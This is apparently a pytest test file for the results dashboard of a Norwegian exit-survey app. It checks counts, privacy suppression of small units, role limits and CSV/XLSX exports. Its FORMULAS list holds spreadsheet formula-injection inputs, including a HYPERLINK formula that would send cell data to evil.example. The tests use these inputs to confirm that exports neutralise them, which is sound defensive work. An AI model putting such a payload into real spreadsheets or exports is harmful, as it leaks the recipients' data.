"""Dashboard figures against hand-computed values on a small fixture, with the privacy rules."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from survey_app.models import Headcount, Membership, Person, Response, Unit
from survey_app.services.questionnaires import ensure_version
from survey_app.services.responding import answer_rows, free_text_questions
from tests.conftest import login

# 12 leavers in Heimetenesta (HO-1) and 6 in Skule (OP-1), all in 2026Q3. Hand counts:
#                 HO   OP   total
#   lonn           6    3     9
#   arbeidstid     4    3     7
#   leiing         2    0     2
#   respondents   12    6    18
#   recommend 8:   6    0     6 | 6: 6 0 6 | 10: 0 6 6
HOME_CARE = ([("lonn", "a25_34", 8)] * 6 + [("arbeidstid", "a35_44", 6)] * 4 + [("leiing", "a35_44", 6)] * 2)
SCHOOL = [("lonn", "a45_54", 10)] * 3 + [("arbeidstid", "a45_54", 10)] * 3
HAND = {"Løn": [6, 3, 9], "Arbeidstid, turnus eller for lita stilling": [4, 3, 7], "Leiing": [2, 0, 2],
        "Svar i alt": [12, 6, 18]}


@pytest.fixture
def results_org(app, session, org):
    school_sector = Unit(code="OP", name="Oppvekst", organisation=org)
    school = Unit(code="OP-1", name="Skule", organisation=org, parent=school_sector)
    session.add_all([school_sector, school])
    session.flush()
    home_care = session.query(Unit).filter_by(code="HO-1").one()
    questionnaire = app.extensions["questionnaires"].get("sluttsamtale")
    version = ensure_version(session, questionnaire)
    for unit, rows in ((home_care, HOME_CARE), (school, SCHOOL)):
        for reason, age, recommend in rows:
            response = Response(organisation_id=org.id, questionnaire_version_id=version.id, unit_id=unit.id,
                                language="nn", channel="invitation", submitted_on=date(2026, 8, 15))
            response.answers = list(answer_rows({"main_reason": reason, "age_band": age, "recommend": recommend,
                                                 "other_reasons": ["belastning", "utvikling"],
                                                 "main_reason_text": f"Tekst om {reason}, ring 41683920"},
                                                free_text_questions(questionnaire)))
            session.add(response)
    for i in range(18):
        unit = home_care if i < 12 else school
        session.add(Person(organisation_id=org.id, kind="leaver", source_key=f"k{i}", unit_id=unit.id,
                           end_date=date(2026, 9, 1)))
    session.add_all([Headcount(organisation_id=org.id, unit_id=home_care.id, period="2026Q3", headcount=120),
                     Headcount(organisation_id=org.id, unit_id=school.id, period="2026Q3", headcount=60)])
    session.commit()
    return org


URL = "/org/testvik/resultat?period=2026Q3&span=1"


def cells(html: str, row_label: str, table: str = "main_reason") -> list[str]:
    import re
    html = re.search(r'aria-labelledby="h-' + table + r'">(.*?)</section>', html, re.S).group(1)
    row = re.search(r"<th scope=\"row\">" + re.escape(row_label) + r"</th>(.*?)</tr>", html, re.S).group(1)
    return [re.sub(r"<[^>]+>|\s*\(.*?\)", "", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]


def test_figures_match_hand_counts_and_groups_show_whole(client, make_user, results_org):
    make_user("hr@testvik.no", {results_org: ["hr"]})
    login(client, "hr@testvik.no")
    html = client.get(URL).get_data(as_text=True)
    # Columns: Helse og omsorg (12 respondents), Oppvekst (6), I alt. Both groups are at least the
    # minimum, so each shows its whole distribution, a cell of 2 included.
    for label, expected in HAND.items():
        assert cells(html, label) == [str(e) for e in expected], label
    # Recommend: home care (6*8 + 6*6) / 12 = 7.0 and (0 - 6) / 12 = -50; school 10.0 and 100;
    # all (48 + 36 + 60) / 18 = 8.0 and (6 - 6) / 18 = 0.
    assert cells(html, "Gjennomsnitt", "recommend") == ["7,0", "10,0", "8,0"]  # the decimal comma
    assert cells(html, "Tilrådarar minus kritikarar", "recommend") == ["-50", "100", "0"]
    # Turnover: 12 of 120 = 10.0 % (sector and its unit), 6 of 60 = 10.0 % (likewise), 18 of 180 = 10.0 %.
    assert html.count("10,0&nbsp;%") == 5  # two sectors, their two units, and the total
    # Free text: 18 answers (at least 10), scrubbed.
    assert "Tekst om lonn, ring [telefon]" in html and "41683920" not in html


def test_a_small_unit_says_so_and_the_sibling_that_would_give_it_away_is_held_back(
        app, client, session, make_user, results_org):
    sector = session.query(Unit).filter_by(code="OP").one()
    small = Unit(code="OP-2", name="Barnehagen", organisation_id=results_org.id, parent_id=sector.id)
    session.add(small)
    session.flush()
    questionnaire = app.extensions["questionnaires"].get("sluttsamtale")
    version = ensure_version(session, questionnaire)
    for _ in range(3):
        response = Response(organisation_id=results_org.id, questionnaire_version_id=version.id, unit_id=small.id,
                            language="nn", channel="invitation", submitted_on=date(2026, 8, 20))
        response.answers = list(answer_rows({"main_reason": "leiing", "recommend": 2}, free_text_questions(questionnaire)))
        session.add(response)
    session.commit()
    make_user("hr@testvik.no", {results_org: ["hr"]})
    login(client, "hr@testvik.no")
    html = client.get(URL + "&by=unit").get_data(as_text=True)
    # Columns: Heimetenesta, Helse og omsorg, Barnehagen, Skule, Oppvekst, I alt.
    # A group not shown is one cell down its column, in the first row, saying why; the rows below
    # have no cell for it.
    first = cells(html, "Løn")
    assert first[2] == "færre enn 5 svar" and first[3] == "halde tilbake for å verne ei mindre gruppe"
    assert html.count('class="group-status">færre enn 5 svar</td>') >= 1
    respondents = cells(html, "Svar i alt")
    assert respondents == ["12", "12", "9", "21"]
    assert cells(html, "Leiing") == ["2", "2", "3", "5"]  # Heimetenesta, Helse og omsorg, Oppvekst, I alt
    # The year, the half-year and the quarter are released together: none gives the small unit away.
    for period in ("2026H1", "2026Q2", "2026Q3"):
        page = client.get(URL.replace("period=2026Q3", f"period={period}") + "&by=unit").get_data(as_text=True)
        assert "Barnehagen" in page


def test_leader_sees_only_own_units_and_no_free_text(client, session, make_user, results_org):
    user = make_user("leiar@testvik.no")
    home_care = session.query(Unit).filter_by(code="HO-1").one()
    session.add(Membership(user_id=user.id, organisation_id=results_org.id, role="leader", unit_id=home_care.id))
    session.commit()
    login(client, "leiar@testvik.no")
    html = client.get(URL).get_data(as_text=True)
    assert ">Oppvekst</th>" not in html and "Tekst om" not in html
    assert cells(html, "Løn") == ["6", "6"] and cells(html, "Svar i alt") == ["12", "12"]


def test_exports_carry_the_same_suppressed_figures(client, make_user, results_org):
    make_user("hr@testvik.no", {results_org: ["hr"]})
    login(client, "hr@testvik.no")
    response = client.get(URL.replace("resultat?", "resultat/eksport.csv?table=main_reason&"))
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    assert rows[0][-1] == "I alt" and rows[-1] == ["Svar i alt", "12", "6", "18"]
    assert rows[1][0] == "Løn" and rows[1][-1] == "9"
    assert "attachment" in response.headers["Content-Disposition"]
    response = client.get(URL.replace("resultat?", "resultat/eksport.xlsx?table=main_reason&"))
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert [c.value for c in sheet[sheet.max_row]] == ["Svar i alt", 12, 6, 18]
    assert client.get(URL.replace("resultat?", "resultat/eksport.csv?table=nothing&")).status_code == 404


def test_svg_charts_have_text_alternatives(client, make_user, results_org):
    make_user("hr@testvik.no", {results_org: ["hr"]})
    login(client, "hr@testvik.no")
    html = client.get(URL).get_data(as_text=True)
    assert '<svg xmlns="http://www.w3.org/2000/svg" class="chart" role="img"' in html
    assert '<desc id="chart-main_reason-desc">Løn: 50 %' in html



def test_turnover_table_downloads_and_number_questions_break_down_by_band(client, make_user, results_org):
    make_user("hr@testvik.no", {results_org: ["hr"]})
    login(client, "hr@testvik.no")
    response = client.get(URL.replace("resultat?", "resultat/eksport.csv?table=turnover&"))
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    # A decimal comma (Norwegian Excel reads "10.0" as a date) and no indentation in the sheet.
    assert rows[0] == ["Eining", "Sektor", "Avgangar", "Tilsette", "Turnover (%)"]
    assert ["Helse og omsorg", "", "12", "120", "10,0"] in rows and rows[-1] == ["I alt", "", "18", "180", "10,0"]
    assert not any(row[0].startswith(" ") for row in rows)
    html = client.get(URL + "&by=q:age_band").get_data(as_text=True)
    assert ">25–34 år</th>" in html and ">45–54 år</th>" in html
    assert client.get(URL + "&by=q:position_now").status_code == 200


def test_free_text_list_says_how_many_and_is_in_the_order_of_the_text_not_of_time(app, session, results_org):
    from survey_app.services.dashboard import Scope, free_texts

    questionnaire = app.extensions["questionnaires"].get("sluttsamtale")
    scope = Scope(results_org, questionnaire, ["2026Q3"], "none")
    question = questionnaire.question("main_reason_text")
    total, shown = free_texts(session, scope, question, 10, limit=9)
    assert total == 18 and len(shown) == 9
    # The school's six, about pay and working hours, were stored last; the list does not care.
    assert shown == ["Tekst om arbeidstid, ring [telefon]"] * 7 + ["Tekst om leiing, ring [telefon]"] * 2
    assert free_texts(session, scope, question, 19) is None  # fewer writers than the minimum


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikk")', "+SUM(1+1)", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


@pytest.mark.parametrize("name", FORMULAS)
def test_exports_write_names_that_look_like_formulas_as_text(client, session, make_user, results_org, name):
    import zipfile

    unit = session.query(Unit).filter_by(code="HO-1").one()
    unit.name = name
    session.commit()
    make_user("hr@testvik.no", {results_org: ["hr"]})
    login(client, "hr@testvik.no")
    for table in ("main_reason", "turnover"):
        response = client.get(URL.replace("resultat?", f"resultat/eksport.csv?table={table}&") + "&by=unit")
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
        cells_found = [c for row in rows for c in row if name.strip() in c]
        assert cells_found and all(c.startswith("'") and c.lstrip("' ").startswith(name) for c in cells_found)
        assert not any(c.lstrip(" ").startswith(tuple("=+-@\t\r")) for row in rows for c in row
                       if not c.lstrip("-").isdigit())
        response = client.get(URL.replace("resultat?", f"resultat/eksport.xlsx?table={table}&") + "&by=unit")
        with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
        sheet = load_workbook(io.BytesIO(response.data)).active
        texts = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and name.strip() in c.value]
        assert texts and all(c.data_type == "s" for c in texts)


def test_a_unit_with_fewer_employees_than_the_minimum_shows_no_headcount(client, session, make_user, results_org):
    sector = session.query(Unit).filter_by(code="OP").one()
    tiny = Unit(code="OP-2", name="Lita eining", organisation_id=results_org.id, parent_id=sector.id)
    session.add(tiny)
    session.flush()
    session.add(Headcount(organisation_id=results_org.id, unit_id=tiny.id, period="2026Q3", headcount=3))
    session.commit()
    make_user("hr@testvik.no", {results_org: ["hr"]})
    login(client, "hr@testvik.no")
    response = client.get(URL.replace("resultat?", "resultat/eksport.csv?table=turnover&"))
    rows = {row[0].strip(): row[1:] for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")),
                                                          delimiter=";")}
    assert rows["Lita eining"][2] == "" and rows["Oppvekst"][2] == "63"
    assert rows["Skule"][2] == ""  # 63 - 60 would give the small unit away
    assert rows["Skule"][0] == "Oppvekst"  # the unit's sector, where the page indents it
    turnover = client.get(URL).get_data(as_text=True).split('id="turnover"')[1]
    assert "3" not in turnover.split("Lita eining")[1].split("</tr>")[0]


def test_agreement_rows_are_labelled_and_no_question_is_crossed_with_itself(app, session, client, make_user,
                                                                             results_org):
    questionnaire = app.extensions["questionnaires"].get("sluttsamtale")
    version = ensure_version(session, questionnaire)
    unit = session.query(Unit).filter_by(code="HO-1").one()
    for i in range(6):
        response = Response(organisation_id=results_org.id, questionnaire_version_id=version.id, unit_id=unit.id,
                            language="nn", channel="invitation", submitted_on=date(2026, 8, 15))
        response.answers = list(answer_rows({"main_reason": "lonn", "sector": "helse", "leiing_seen": 1 + i % 5},
                                            free_text_questions(questionnaire)))
        session.add(response)
    session.commit()
    make_user("hr@testvik.no", {results_org: ["hr"]})
    login(client, "hr@testvik.no")
    by_sector = client.get(URL + "&by=sector").get_data(as_text=True)
    assert ">Heilt ueinig (1)</th>" in by_sector and ">Heilt einig (5)</th>" in by_sector
    # The sector the respondent names is what the unit tree says: not broken down by it.
    assert 'id="h-sector"' not in by_sector
    assert 'id="h-sector"' in client.get(URL + "&by=q:age_band").get_data(as_text=True)
